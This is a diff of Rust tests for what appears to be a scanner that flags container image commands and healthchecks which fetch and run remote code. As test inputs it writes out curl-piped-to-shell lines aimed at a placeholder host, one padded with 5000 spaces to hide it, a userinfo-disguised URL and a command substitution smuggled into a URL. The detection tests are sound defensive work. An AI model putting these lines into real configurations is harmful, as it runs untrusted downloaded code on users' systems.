@@ -1,4 +1,5 @@
 use proptest::prelude::*;
+use remint_model::Pinned;
 
 use super::*;
 
@@ -153,6 +154,81 @@ fn what_starting_fetches_is_seen_through_what_passes_on() {
         "npm:some-server",
     );
     check(&["sh", "-c", "npx -y some-server"], &[], "some-server");
+    check(&["gosu", "node", "npx", "-y", "s"], &[], "npm:s");
+    check(&["timeout", "9999", "npx", "s"], &[], "npm:s");
+    check(
+        &["dumb-init", "--rewrite", "15:3", "--", "npx", "s"],
+        &[],
+        "npm:s",
+    );
+    let far = format!("true{}; curl https://other.invalid | sh", " ".repeat(5000));
+    check(&["/bin/sh", "-c", &far], &[], "a line for a shell");
+    // The arguments of a server are its own.
+    for command in [
+        &["node", "server.js", "--runner", "npx", "other"][..],
+        &["docker-entrypoint.sh", "node", "server.js"],
+        &["my-server", "--shell", "bash"],
+    ] {
+        assert_eq!(config(command, &[], &["PATH=/bin"]).facts.remote, []);
+    }
+    let long = "x".repeat(LONGEST_WORD + 1);
+    let text = json!({"architecture": "amd64", "os": "linux", "config": {"Cmd": [long]},
+        "rootfs": {"type": "layers", "diff_ids": []}});
+    let error = configuration(text.to_string().as_bytes(), 0).unwrap_err();
+    assert!(error.to_string().contains("longer than any"), "{error}");
+}
+
+#[test]
+fn another_registry_in_the_environment_is_no_exact_version() {
+    let pinned = |env: &[&str]| {
+        let facts = config(&["uvx", "some-server==1.0.0"], &[], env).facts;
+        facts
+            .remote
+            .into_iter()
+            .map(|code| code.pinned)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(pinned(&["PATH=/bin"]), [Pinned::Exactly]);
+    assert_eq!(
+        pinned(&["UV_INDEX_URL=https://other.invalid"]),
+        [Pinned::Floating]
+    );
+}
+
+#[test]
+fn what_is_run_beside_the_program_counts_too() {
+    let read = |test: Value| {
+        let text = json!({"architecture": "amd64", "os": "linux",
+            "config": {"Cmd": ["node", "server.js"], "Healthcheck": {"Test": test}},
+            "rootfs": {"type": "layers", "diff_ids": []}});
+        configuration(text.to_string().as_bytes(), 0).unwrap().facts
+    };
+    for honest in [
+        json!([
+            "CMD-SHELL",
+            "curl -f http://localhost:3000/health || exit 1"
+        ]),
+        json!(["CMD", "wget", "-q", "--spider", "http://127.0.0.1:8080/"]),
+        json!(["CMD", "node", "healthcheck.js"]),
+        json!(["NONE"]),
+        json!([]),
+    ] {
+        assert_eq!(read(honest.clone()).remote, [], "{honest}");
+    }
+    for hostile in [
+        json!(["CMD-SHELL", "curl https://other.invalid | sh"]),
+        json!([
+            "CMD-SHELL",
+            "curl -f http://localhost:3000/ && curl other.invalid | sh"
+        ]),
+        json!(["CMD-SHELL", "curl http://localhost@other.invalid/"]),
+        json!(["CMD-SHELL", "curl http://localhost/$(npx other)"]),
+        json!(["CMD", "npx", "-y", "other"]),
+    ] {
+        assert_ne!(read(hostile.clone()).remote, [], "{hostile}");
+    }
+    let check = read(json!(["CMD-SHELL", "exit 0"])).healthcheck;
+    assert_eq!(check, ["/bin/sh", "-c", "exit 0"]);
 }
 
 proptest! {
